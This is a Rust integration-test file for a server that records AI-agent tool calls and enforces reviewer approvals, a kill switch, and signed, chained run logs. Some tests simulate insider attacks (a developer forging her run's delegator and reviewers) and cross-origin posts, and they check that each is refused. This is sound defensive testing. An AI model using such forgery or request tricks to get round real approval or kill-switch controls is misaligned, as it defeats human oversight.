    assert_eq!(
        sync["approvals"],
        json!([]),
        "dave asked about carol's request"
    );
    assert!(
        d.len() >= 2 + 26,
        "approval ids carry at least 128 random bits: {d}"
    );
}

#[test]
fn sqlite_records_roles_approvals_and_kill_switch() {
    let dir = tempfile::tempdir().unwrap();
    records_roles_approvals_and_kill_switch(&Database::sqlite(dir.path()));
}

#[test]
fn postgres_records_roles_approvals_and_kill_switch() {
    if let Some(db) = Database::postgres("postgres_records_roles_approvals_and_kill_switch") {
        records_roles_approvals_and_kill_switch(&db);
    }
}

/// The server stops in the middle of a run and comes back; the hooks' background pushes
/// deliver every event, and the run verifies on the server.
fn nothing_lost_when_the_server_stops_mid_run(database: &Database) {
    let mut server = ServerProcess::start(database);
    let alice = server.token("alice@example.com", "developer");
    let bob = server.token("bob@example.com", "reviewer");
    let repo = Repo::new(&server.url, &alice);
    let run_id = repo.run_id();
    let held_by_server = |server: &ServerProcess| -> u64 {
        let (status, run) = server.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
        if status == 200 {
            run["run"]["entries"].as_u64().unwrap_or(0)
        } else {
            0
        }
    };
    for i in 0..10 {
        assert_eq!(repo.read(&format!("a{i}")).0, "allow");
    }
    // The hooks pushed in the background; nobody ran `mandate push`.
    wait_until(
        "the first events on the server",
        Duration::from_secs(30),
        || held_by_server(&server) == repo.local_entries(),
    );
    server.stop();
    for i in 0..10 {
        assert_eq!(
            repo.read(&format!("b{i}")).0,
            "allow",
            "the hook does not wait for the server"
        );
    }
    let during = repo.local_entries();
    server.restart();
    assert!(
        held_by_server(&server) < during,
        "the events of the outage are still spooled"
    );
    for i in 0..5 {
        assert_eq!(repo.read(&format!("c{i}")).0, "allow");
    }
    let out = repo.mandate(&["finish"]);
    assert!(out.status.success(), "{}", text(&out));
    // `finish` sealed the run and started a background push, too.
    wait_until(
        "every event and the checkpoint",
        Duration::from_secs(60),
        || {
            let (_, run) = server.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
            run["run"]["entries"].as_u64() == Some(repo.local_entries())
                && run["run"]["sealed"].as_u64() == Some(repo.local_entries())
        },
    );
    let (_, report) = server
        .client(&bob)
        .get(&format!("/api/v1/runs/{run_id}/verify"));
    assert_eq!(report["ok"], true, "{report}");
    let key = mandate_record::keys::load(&repo.records.join("keys/signing.key")).unwrap();
    let local = mandate_record::verify(
        &repo.records.join("runs").join(&run_id),
        &key.verifying_key(),
    );
    assert!(local.ok, "{local}");
    assert_eq!(
        json!(local.root),
        report["root"],
        "the server's copy has the local Merkle root"
    );
    // The lines themselves, not only the count.
    let (_, stored) = server
        .client(&bob)
        .get(&format!("/api/v1/runs/{run_id}/entries?from=0&limit=10000"));
    let local_lines: Vec<String> =
        std::fs::read_to_string(repo.records.join("runs").join(&run_id).join("log.jsonl"))
            .unwrap()
            .lines()
            .map(str::to_string)
            .collect();
    assert_eq!(stored["entries"], json!(local_lines));
}

#[test]
fn sqlite_nothing_lost_when_the_server_stops_mid_run() {
    let dir = tempfile::tempdir().unwrap();
    nothing_lost_when_the_server_stops_mid_run(&Database::sqlite(dir.path()));
}

#[test]
fn postgres_nothing_lost_when_the_server_stops_mid_run() {
    if let Some(db) = Database::postgres("postgres_nothing_lost_when_the_server_stops_mid_run") {
        nothing_lost_when_the_server_stops_mid_run(&db);
    }
}

/// Two server processes on one database: what one takes, the other serves.
fn two_servers_serve_the_same_data(database: &Database) {
    let one = ServerProcess::start(database);
    let two = ServerProcess::start(database);
    let alice = one.token("alice@example.com", "developer");
    let bob = two.token("bob@example.com", "reviewer");
    let sec = one.token("sec@example.com", "security");
    let repo = Repo::new(&one.url, &alice);
    repo.read("t1");
    repo.pre(
        "t2",
        "Write",
        json!({"file_path": "billing/requirements.txt", "content": "x\n"}),
    );
    assert!(repo.push().status.success());
    let run_id = repo.run_id();
    // Both answer alike.
    let (_, a) = one.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
    let (_, b) = two.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(a, b);
    assert_eq!(a["run"]["entries"], json!(repo.local_entries()));
    // A decision taken on two reaches a hook that asks one.
    let (_, pending) = one.client(&bob).get("/api/v1/approvals?status=pending");
    let id = pending[0]["id"].as_str().unwrap().to_string();
    // (Through the helper the CLI's `mandate approve` can call with records.server set.)
    let bob_client = Client::new(&two.url, Some(bob.clone())).unwrap();
    let request = mandate_project::approvals::Approvals::new(&repo.records)
        .get(&id)
        .unwrap()
        .unwrap();
    let decided = mandate_project::remote::decide(
        &bob_client,
        &repo.records,
        &mandate_project::remote::Decision {
            id: &request.id,
            run_id: &request.run_id,
            digest: &request.digest,
            approve: true,
            for_run: true,
            note: "for the run",
        },
    );
    assert!(
        matches!(decided, mandate_project::outbox::Delivery::Sent(ref r) if r.status == 200),
        "{decided:?}"
    );
    let (decision, reason) = repo.pre(
        "t3",
        "Write",
        json!({"file_path": "billing/requirements.txt", "content": "x\n"}),
    );
    assert_eq!(decision, "allow", "{reason}");
    // The kill switch pulled on one is in force on two.
    let sec_client = Client::new(&one.url, Some(sec.clone())).unwrap();
    let off = mandate_project::remote::switch(
        &sec_client,
        &repo.records,
        "disable",
        "jira/get_issue",
        "test",
    );
    let mandate_project::outbox::Delivery::Sent(off) = off else {
        panic!("{off:?}")
    };
    assert_eq!(off.json()[0]["target"], "jira/get_issue");
    let refused = mandate_project::remote::switch(
        &Client::new(&one.url, Some(bob.clone())).unwrap(),
        &repo.records,
        "enable",
        "jira/get_issue",
        "",
    );
    let mandate_project::outbox::Delivery::Refused(refused) = refused else {
        panic!("{refused:?}")
    };
    assert!(refused.contains("forbidden for this token"), "{refused}");
    let (_, killed) = two.client(&bob).get("/api/v1/killswitch");
    assert_eq!(killed[0]["target"], "jira/get_issue");
    // Pushes of the same entries to both at once: idempotent, one copy.
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    std::fs::remove_file(repo.records.join("remote/cursor.json")).unwrap();
    let handles: Vec<_> = [one.url.clone(), two.url.clone()]
        .into_iter()
        .map(|url| {
            let mut command = repo.command(&["push", "--server", &url]);
            std::thread::spawn(move || command.output().unwrap())
        })
        .collect();
    for handle in handles {
        let out = handle.join().unwrap();
        assert!(out.status.success(), "{}", text(&out));
    }
    let (_, report) = two
        .client(&bob)
        .get(&format!("/api/v1/runs/{run_id}/verify"));
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entries"], json!(repo.local_entries()));
}

#[test]
fn sqlite_two_servers_serve_the_same_data() {
    let dir = tempfile::tempdir().unwrap();
    two_servers_serve_the_same_data(&Database::sqlite(dir.path()));
}

#[test]
fn postgres_two_servers_serve_the_same_data() {
    if let Some(db) = Database::postgres("postgres_two_servers_serve_the_same_data") {
        two_servers_serve_the_same_data(&db);
    }
}

// ---------------------------------------------------------------------------------
// Ingest refuses what does not check

#[test]
fn forks_gaps_foreign_keys_and_bad_checkpoints_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let alice = server.token("alice@example.com", "developer");
    // No records.server: only this test pushes.
    let repo = Repo::new("", &alice);
    repo.read("t1");
    repo.read("t2");
    assert!(repo.mandate(&["finish"]).status.success());
    let run_id = repo.run_id();
    let run_dir = repo.records.join("runs").join(&run_id);
    let lines: Vec<String> = std::fs::read_to_string(run_dir.join("log.jsonl"))
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    let key = mandate_record::keys::load(&repo.records.join("keys/signing.key")).unwrap();
    let origin = mandate_project::recorder::origin(&run_id);
    let key_string = mandate_record::checkpoint::verifier_key_string(&origin, &key.verifying_key());
    let note =
        std::fs::read_to_string(run_dir.join("checkpoints").join(lines.len().to_string())).unwrap();
    let api = server.client(&alice);
    let path = format!("/api/v1/runs/{run_id}/entries");

    // A gap: entries from 3 before the server holds any.
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": 3, "entries": &lines[3..]}),
    );
    assert_eq!((status, body["have"].clone()), (409, json!(0)), "{body}");
    // The whole log, then again: the second time is all duplicates.
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": 0, "entries": lines}),
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["accepted"], json!(lines.len()));
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": 0, "entries": lines, "checkpoints": [note]}),
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        (body["accepted"].clone(), body["duplicates"].clone()),
        (json!(0), json!(lines.len()))
    );
    assert_eq!(body["sealed"], json!(lines.len()));
    // A fork: a different entry 2 (still chained to entry 1).
    let mut forked: Value = serde_json::from_str(&lines[2]).unwrap();
    forked["tool_use_id"] = json!("forged");
    let forked = mandate_record::canonical::to_vec(&forked).unwrap();
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": 2, "entries": [String::from_utf8(forked).unwrap()]}),
    );
    assert_eq!(status, 409, "{body}");
    assert!(body["error"].as_str().unwrap().contains("fork"), "{body}");
    // An entry that does not chain.
    let mut unchained: Value = serde_json::from_str(&lines[lines.len() - 1]).unwrap();
    unchained["i"] = json!(lines.len());
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": lines.len(), "entries": [unchained.to_string()]}),
    );
    assert_eq!(status, 409, "{body}");
    assert!(body["error"].as_str().unwrap().contains("chain"), "{body}");
    // Another key for the same run.
    let other = mandate_record::SigningKey::from_bytes(&[7; 32]);
    let other_string =
        mandate_record::checkpoint::verifier_key_string(&origin, &other.verifying_key());
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": other_string, "from": lines.len(), "entries": []}),
    );
    assert_eq!(status, 409, "{body}");
    // A checkpoint by another key, and one whose root is not the stored prefix's.
    let root = mandate_record::merkle::root(
        &lines
            .iter()
            .map(|l| mandate_record::merkle::leaf_hash(l.as_bytes()))
            .collect::<Vec<_>>(),
    );
    let foreign =
        mandate_record::Checkpoint::sign(&origin, lines.len() as u64, root, &other).unwrap();
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": lines.len(), "checkpoints": [foreign.note]}),
    );
    assert_eq!(status, 400, "{body}");
    let wrong = mandate_record::Checkpoint::sign(&origin, 2, root, &key).unwrap();
    let (status, body) = api.post(
        &path,
        json!({"project": "billing", "key": key_string, "from": lines.len(), "checkpoints": [wrong.note]}),
    );
    assert_eq!(status, 409, "{body}");
    // Nothing of that changed the stored run.
    let (_, report) = api.get(&format!("/api/v1/runs/{run_id}/verify"));
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entries"], json!(lines.len()));
}

#[test]
fn retention_removes_runs_past_their_days() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let alice = server.token("alice@example.com", "developer");
    let repo = Repo::new(&server.url, &alice);
    repo.read("t1");
    assert!(repo.push().status.success());
    let retention = |days: &str| {
        Command::new(server_bin())
            .args([
                "retention",
                "--days",
                days,
                "--database-url",
                &database.url(),
            ])
            .output()
            .unwrap()
    };
    // Entries that say they are from 1999 do not date the run out: the server keeps runs
    // by when it received them (issue 17, M8).
    sqlite(
        &database,
        "UPDATE runs SET started_at = '1999-01-01T00:00:00Z', last_at = '1999-01-01T00:00:00Z'",
    );
    let out = retention("400");
    assert!(text(&out).contains("removed 0 run(s)"), "{}", text(&out));
    assert_eq!(
        server
            .client(&alice)
            .get("/api/v1/runs")
            .1
            .as_array()
            .unwrap()
            .len(),
        1
    );
    std::thread::sleep(Duration::from_millis(1100));
    let out = retention("0");
    assert!(text(&out).contains("removed 1 run(s)"), "{}", text(&out));
    assert!(
        server
            .client(&alice)
            .get("/api/v1/runs")
            .1
            .as_array()
            .unwrap()
            .is_empty()
    );
}

#[test]
fn the_retention_job_runs_in_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start_with(
        &database.url(),
        free_port(),
        &["--retention-days", "0", "--retention-every", "1"],
    );
    let alice = server.token("alice@example.com", "developer");
    let repo = Repo::new("", &alice);
    repo.read("t1");
    let out = repo.mandate(&["push", "--server", &server.url]);
    assert!(out.status.success(), "{}", text(&out));
    // Retention of 0 days: the job takes the run away within a round or two.
    wait_until("the retention job", Duration::from_secs(15), || {
        server
            .client(&alice)
            .get("/api/v1/runs")
            .1
            .as_array()
            .is_some_and(Vec::is_empty)
    });
}

/// A server that takes connections and never answers must not pile up pushers: the
/// first waits on it, later ones leave word for it and exit at once.
#[test]
fn background_pushers_do_not_pile_up_behind_a_stuck_server() {
    let stuck = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", stuck.local_addr().unwrap());
    let held = std::thread::spawn(move || {
        let mut open = Vec::new();
        for conn in stuck.incoming().take(3) {
            open.push(conn);
        }
        std::thread::sleep(Duration::from_secs(5));
    });
    let repo = Repo::new("", "mdt_unused");
    repo.read("t1");
    let records = repo.records.display().to_string();
    let args = [
        "push",
        "--background",
        "--records-dir",
        records.as_str(),
        "--server",
        url.as_str(),
    ];
    let mut first = repo.command(&args).spawn().unwrap();
    std::thread::sleep(Duration::from_millis(500));
    for _ in 0..4 {
        let started = Instant::now();
        let out = repo.mandate(&args);
        assert!(out.status.success(), "{}", text(&out));
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "a second pusher waited {:?}",
            started.elapsed()
        );
    }
    assert!(repo.records.join("remote/push.pending").exists());
    assert!(
        first.try_wait().unwrap().is_none(),
        "the first pusher is still at it"
    );
    let _ = first.kill();
    let _ = first.wait();
    drop(held);
}

#[test]
fn revoked_tokens_no_longer_sign_in() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let bob = server.token("bob@example.com", "reviewer");
    assert_eq!(server.client(&bob).get("/api/v1/whoami").0, 200);
    let out = Command::new(server_bin())
        .args(["token", "revoke", "--user", "bob@example.com"])
        .args(["--database-url", &database.url()])
        .output()
        .unwrap();
    assert!(text(&out).contains("revoked 1 token(s)"), "{}", text(&out));
    assert_eq!(server.client(&bob).get("/api/v1/whoami").0, 401);
}

#[test]
fn mandate_serve_and_token_start_the_server_binary() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("s.db").display());
    let out = Command::new(mandate_bin())
        .env("MANDATE_SERVER_BIN", server_bin())
        .args([
            "token",
            "create",
            "--user",
            "sec@example.com",
            "--role",
            "security",
            "--project",
            "billing",
            "--expires",
            "90d",
        ])
        .args(["--database-url", &url])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let token = String::from_utf8(out.stdout).unwrap().trim().to_string();
    assert!(token.starts_with("mdt_") && token.len() == 68, "{token}");
    // `mandate serve` hands the certificate on: it serves HTTPS.
    let pki = TestPki::new();
    let port = free_port();
    let mut child = Command::new(mandate_bin())
        .env("MANDATE_SERVER_BIN", server_bin())
        .args([
            "serve",
            "--listen",
            &format!("127.0.0.1:{port}"),
            "--database-url",
            &url,
            "--tls-cert",
            pki.cert.to_str().unwrap(),
            "--tls-key",
            pki.key.to_str().unwrap(),
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert!(
        line.contains(&format!("https://127.0.0.1:{port}")),
        "{line}"
    );
    let api = Api(
        Client::new(&format!("https://127.0.0.1:{port}"), Some(token))
            .unwrap()
            .with_ca(Some(pki.ca.clone())),
    );
    let (status, who) = api.get("/api/v1/whoami");
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(status, 200);
    assert_eq!(who["email"], "sec@example.com");
    assert_eq!(who["role"], "security");
    assert_eq!(who["projects"], "billing");
    // Only the hash is stored.
    let db = std::fs::read(dir.path().join("s.db")).unwrap();
    let needle = b"mdt_";
    assert!(
        !db.windows(needle.len()).any(|w| w == needle),
        "a raw token is in the database"
    );
}

// ---------------------------------------------------------------------------------
// Identity and teams (issue 17, H2, H3, M1, M2, M3)

/// One HTTP/1.1 exchange over a plain socket, as a browser or an attacker's page would
/// send it: the whole answer, head and body.
fn raw(port: u16, request: &str) -> String {
    use std::io::Read as _;
    let mut c = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    c.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = c.read_to_string(&mut answer);
    answer
}

/// A form post to a page, with these extra header lines.
fn form_post(port: u16, path: &str, headers: &str, body: &str) -> String {
    raw(
        port,
        &format!(
            "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n{headers}\r\n{body}",
            body.len()
        ),
    )
}

/// The pending approval requests of a run, as `who` sees them.
fn approvals_of(server: &ServerProcess, who: &str, run_id: &str) -> Vec<Value> {
    let (status, all) = server.client(who).get("/api/v1/approvals");
    assert_eq!(status, 200, "{all}");
    all.as_array()
        .unwrap()
        .iter()
        .filter(|a| a["run_id"] == json!(run_id))
        .cloned()
        .collect()
}

/// Issue 17, H2: before, any token read every run, prompt and approval. Now a developer
/// reads their own runs; a reviewer the runs of the projects the team policy names them
/// in, with a token scoped to them; an admin all. A run one may not read is "not found",
/// through the API and the pages alike.
fn a_developer_cannot_read_another_developers_run(database: &Database) {
    let server = ServerProcess::start(database);
    let alice = server.token("alice@example.com", "developer");
    let carol = server.token("carol@example.com", "developer");
    let bob = server.token("bob@example.com", "reviewer");
    let bob_payments = server.token_with("bob@example.com", "reviewer", &["--project", "payments"]);
    let erin = server.token_with("erin@example.com", "reviewer", &["--project", "*"]);
    let admin = server.admin();
    let mut policy = team_policy();
    policy["projects"]["payments"] = json!({"reviewers": {"billing": ["erin@example.com"]}});
    let (status, body) = server
        .client(&admin)
        .post("/api/v1/policy", json!({"policy": policy, "base": 1}));
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["version"], 2);

    let write = json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"});
    let mut runs = Vec::new();
    for token in [&alice, &carol] {
        let repo = Repo::new("", token);
        assert_eq!(repo.read("t1").0, "allow");
        assert_eq!(repo.pre("t2", "Write", write.clone()).0, "deny");
        let out = repo.mandate(&["push", "--server", &server.url]);
        assert!(out.status.success(), "{}", text(&out));
        runs.push(repo.run_id());
    }
    let (alices, carols) = (&runs[0], &runs[1]);

    // Carol reads her run and nothing of alice's.
    let (_, listed) = server.client(&carol).get("/api/v1/runs");
    let ids: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["run_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [carols.as_str()], "{listed}");
    let (_, listed) = server
        .client(&carol)
        .get("/api/v1/runs?user=alice@example.com");
    assert_eq!(listed, json!([]));
    for path in ["", "/entries", "/verify"] {
        let (status, body) = server
            .client(&carol)
            .get(&format!("/api/v1/runs/{alices}{path}"));
        assert_eq!(status, 404, "carol read alice's run{path}: {body}");
    }
    assert!(approvals_of(&server, &carol, alices).is_empty());
    assert_eq!(approvals_of(&server, &carol, carols).len(), 1);
    let page = raw(
        server.port,
        &format!(
            "GET /runs/{alices} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {carol}\r\n\
             Connection: close\r\n\r\n"
        ),
    );
    assert!(page.starts_with("HTTP/1.1 404"), "{page}");
    assert!(!page.contains("stripe"), "{page}");
    // Nor the organisation's metrics.
    assert_eq!(server.client(&carol).get("/api/v1/metrics").0, 403);

    // Bob reviews project billing: both runs, both held calls.
    for run in [alices, carols] {
        let (status, body) = server.client(&bob).get(&format!("/api/v1/runs/{run}"));
        assert_eq!(status, 200, "{body}");
        assert_eq!(body["run"]["project"], "billing");
        assert_eq!(approvals_of(&server, &bob, run).len(), 1);
    }
    // Bob's token for another project, and a reviewer of another project: nothing.
    for token in [&bob_payments, &erin] {
        assert_eq!(server.client(token).get("/api/v1/runs").1, json!([]));
        assert_eq!(
            server
                .client(token)
                .get(&format!("/api/v1/runs/{alices}"))
                .0,
            404
        );
        assert!(approvals_of(&server, token, alices).is_empty());
    }
    // The admin reads everything.
    let (_, listed) = server.client(&admin).get("/api/v1/runs");
    assert_eq!(listed.as_array().unwrap().len(), 2, "{listed}");
}

#[test]
fn sqlite_a_developer_cannot_read_another_developers_run() {
    let dir = tempfile::tempdir().unwrap();
    a_developer_cannot_read_another_developers_run(&Database::sqlite(dir.path()));
}

#[test]
fn postgres_a_developer_cannot_read_another_developers_run() {
    if let Some(db) = Database::postgres("postgres_a_developer_cannot_read_another_developers_run")
    {
        a_developer_cannot_read_another_developers_run(&db);
    }
}

/// Issue 17, H3: before, mallory pushed a run that said alice delegated it and named
/// mallory as its reviewer, and then approved it herself (200); alice was listed as the
/// delegator of a run she never saw. Now the delegator is the pushing token's user, the
/// reviewers are the team policy's group, and a person with a developer and a reviewer
/// token (in any spelling of their address) is one principal who never approves their
/// own run.
#[test]
fn a_pushed_run_cannot_name_its_own_reviewers_or_delegator() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let mallory = server.token("mallory@example.com", "developer");
    let mallory_reviews = server.token("MALLORY@Example.com ", "reviewer");
    let sec_reviews = server.token("sec@example.com", "reviewer");
    let admin = server.admin();
    assert_eq!(
        server.client(&mallory_reviews).get("/api/v1/whoami").1["email"],
        "mallory@example.com",
        "one address, one principal"
    );

    let repo = Repo::new("", &mallory);
    let write = json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"});
    assert_eq!(repo.pre("t1", "Write", write.clone()).0, "deny");
    let held = local_pending(&repo);
    let run_dir = repo.records.join("runs").join(repo.run_id());
    // What mallory writes into her own record: alice (or the CEO) delegated it, and
    // mallory reviews its security-group calls.
    mandate_record::RunLog::append_to(
        &run_dir,
        json!({"type": "run.start", "run_id": repo.run_id(), "user": "ceo@example.com",
               "project": "billing",
               "contract": {"id": "BILL-9", "delegated_by": "ceo@example.com"}}),
    )
    .unwrap();
    let forged = "a-mmmmmmmmmmmmmmmmmmmmmmmmmm";
    mandate_record::RunLog::append_to(
        &run_dir,
        json!({"type": "approval.request", "id": forged, "tool": "Write",
               "digest": held[0]["digest"], "group": "security",
               "reviewers": ["mallory@example.com"], "tool_use_id": "t1",
               "status": "pending", "rule": "approval[0]", "reason": "dependency change"}),
    )
    .unwrap();
    let out = repo.mandate(&["push", "--server", &server.url]);
    assert!(out.status.success(), "{}", text(&out));
    let run_id = repo.run_id();

    // The delegator is whoever pushed.
    let (_, run) = server.client(&admin).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(run["run"]["delegated_by"], "mallory@example.com", "{run}");
    assert_eq!(run["run"]["owner"], "mallory@example.com");
    for claimed in ["ceo@example.com", "alice@example.com"] {
        let (_, listed) = server
            .client(&admin)
            .get(&format!("/api/v1/runs?user={claimed}"));
        assert_eq!(listed, json!([]), "{claimed} is named as a delegator");
    }
    // The reviewers are the policy's security group, not the record's list.
    let requests = approvals_of(&server, &admin, &run_id);
    let request = requests.iter().find(|a| a["id"] == forged).unwrap();
    assert_eq!(
        request["reviewers"],
        json!(["sec@example.com"]),
        "{request}"
    );
    let decide = |token: &str, id: &str| {
        let request = requests.iter().find(|a| a["id"] == id).unwrap();
        server.client(token).post(
            &format!("/api/v1/approvals/{id}"),
            json!({"decision": "approve", "for_run": "true",
                   "run_id": request["run_id"], "digest": request["digest"]}),
        )
    };
    let (status, body) = decide(&mallory_reviews, forged);
    assert_eq!(status, 403, "mallory approved her own run's call: {body}");
    // Even named in the policy's group, mallory does not approve her own run.
    let mut policy = team_policy();
    policy["projects"]["billing"]["reviewers"]["security"] =
        json!(["sec@example.com", "Mallory@Example.com"]);
    let (status, body) = server
        .client(&admin)
        .post("/api/v1/policy", json!({"policy": policy}));
    assert_eq!(status, 200, "{body}");
    let (status, body) = decide(&mallory_reviews, forged);
    assert_eq!(status, 403, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("delegated"),
        "{body}"
    );
    // The policy's reviewer decides.
    let (status, body) = decide(&sec_reviews, forged);
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["decided_by"], "sec@example.com");
    // An admin revokes mallory's machine key: her run no longer counts as signed by an
    // enrolled key, and that machine pushes nothing more.
    let key = mandate_record::keys::load(&repo.records.join("keys/signing.key")).unwrap();
    let (status, body) = server.client(&admin).post(
        "/api/v1/keys",
        json!({"user": "mallory@example.com", "project": "billing", "action": "revoke",
               "key": mandate_record::checkpoint::verifier_key_string("m", &key.verifying_key())}),
    );
    assert_eq!(status, 200, "{body}");
    let (_, run) = server.client(&admin).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(run["signer_enrolled"], false, "{run}");
    assert_eq!(repo.read("t9").0, "allow");
    let out = repo.mandate(&["push", "--server", &server.url]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("not enrolled"), "{}", text(&out));
    // And nobody pushes into a project the policy does not name them a delegator of.
    let outsider = server.token("zed@example.com", "developer");
    let other = Repo::new("", &outsider);
    other.read("t1");
    let out = other.mandate(&["push", "--server", &server.url]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("not a delegator"), "{}", text(&out));
}

/// Issue 17, M1 and M2: the browser's session is its own short-lived id, not the API
/// token; the JSON API does not take the cookie; a state-changing request from another
/// origin (a page on another port of the same host, which `SameSite` lets through) or
/// naming no origin at all is refused, and so is a sign-in posted from elsewhere; every
/// answer carries the security headers.
#[test]
fn sessions_are_not_tokens_and_cross_origin_posts_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let sec = server.token("sec@example.com", "security");
    let port = server.port;
    let here = format!("Origin: http://127.0.0.1:{port}\r\n");
    let elsewhere = format!("Origin: http://127.0.0.1:{}\r\n", port + 1);

    // Sign-in posted from another page: refused, no cookie.
    let answer = form_post(port, "/login", &elsewhere, &format!("token={sec}"));
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(!answer.contains("Set-Cookie"), "{answer}");
    // From the server's own page: a session.
    let answer = form_post(port, "/login", &here, &format!("token={sec}"));
    assert!(answer.starts_with("HTTP/1.1 303"), "{answer}");
    let cookie = answer
        .lines()
        .find_map(|l| l.strip_prefix("set-cookie: "))
        .unwrap_or_else(|| panic!("{answer}"));
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"));
    let session = cookie.split(';').next().unwrap().to_string();
    assert!(session.starts_with("mandate_session=mds_"), "{session}");
    assert!(!cookie.contains(&sec), "the cookie carries the API token");
    let cookie_line = format!("Cookie: {session}\r\n");
    // The API does not take the cookie.
    let answer = raw(
        port,
        &format!(
            "GET /api/v1/killswitch HTTP/1.1\r\nHost: x\r\n{cookie_line}Connection: close\r\n\r\n"
        ),
    );
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    // Pages take it, with the security headers.
    let answer = raw(
        port,
        &format!("GET /registry HTTP/1.1\r\nHost: x\r\n{cookie_line}Connection: close\r\n\r\n"),
    );
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let head = answer.split("\r\n\r\n").next().unwrap().to_lowercase();
    for header in [
        "content-security-policy: default-src 'none'",
        "frame-ancestors 'none'",
        "x-content-type-options: nosniff",
        "x-frame-options: deny",
        "cache-control: no-store",
        "referrer-policy: same-origin",
    ] {
        assert!(head.contains(header), "{header} missing: {head}");
    }

    // The kill switch posted from another origin, or naming none: refused.
    let kill = "action=disable&target=csrf-target&reason=x";
    for origin in [elsewhere.as_str(), "Origin: null\r\n", ""] {
        let answer = form_post(port, "/killswitch", &format!("{cookie_line}{origin}"), kill);
        assert!(answer.starts_with("HTTP/1.1 403"), "{origin:?}: {answer}");
    }
    let referer = format!("Referer: http://localhost:{port}/registry\r\n");
    let answer = form_post(
        port,
        "/killswitch",
        &format!("{cookie_line}{referer}"),
        kill,
    );
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    let (_, killed) = server.client(&sec).get("/api/v1/killswitch");
    assert_eq!(
        killed,
        json!([]),
        "a cross-origin post pulled the kill switch"
    );
    // From the server's own page it works.
    let answer = form_post(port, "/killswitch", &format!("{cookie_line}{here}"), kill);
    assert!(answer.starts_with("HTTP/1.1 303"), "{answer}");
    let (_, killed) = server.client(&sec).get("/api/v1/killswitch");
    assert_eq!(killed[0]["target"], "csrf-target");

    // Signing out ends the session; so does revoking the token.
    let answer = form_post(port, "/logout", &format!("{cookie_line}{here}"), "");
    assert!(answer.starts_with("HTTP/1.1 303"), "{answer}");
    let registry = |cookie: &str| {
        raw(
            port,
            &format!("GET /registry HTTP/1.1\r\nHost: x\r\n{cookie}Connection: close\r\n\r\n"),
        )
    };
    assert!(registry(&cookie_line).starts_with("HTTP/1.1 303"));
    let answer = form_post(port, "/login", &here, &format!("token={sec}"));
    let second = answer
        .lines()
        .find_map(|l| l.strip_prefix("set-cookie: "))
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let second = format!("Cookie: {second}\r\n");
    assert!(registry(&second).starts_with("HTTP/1.1 200"));
    let out = Command::new(server_bin())
        .args(["token", "revoke", "--user", "sec@example.com"])
        .args(["--database-url", &database.url()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert!(registry(&second).starts_with("HTTP/1.1 303"));
}

fn sqlite(database: &Database, sql: &str) -> String {
    let Database::Sqlite(path) = database else {
        unreachable!()
    };
    let out = Command::new("sqlite3").arg(path).arg(sql).output().unwrap();
    assert!(out.status.success(), "sqlite3: {}", text(&out));
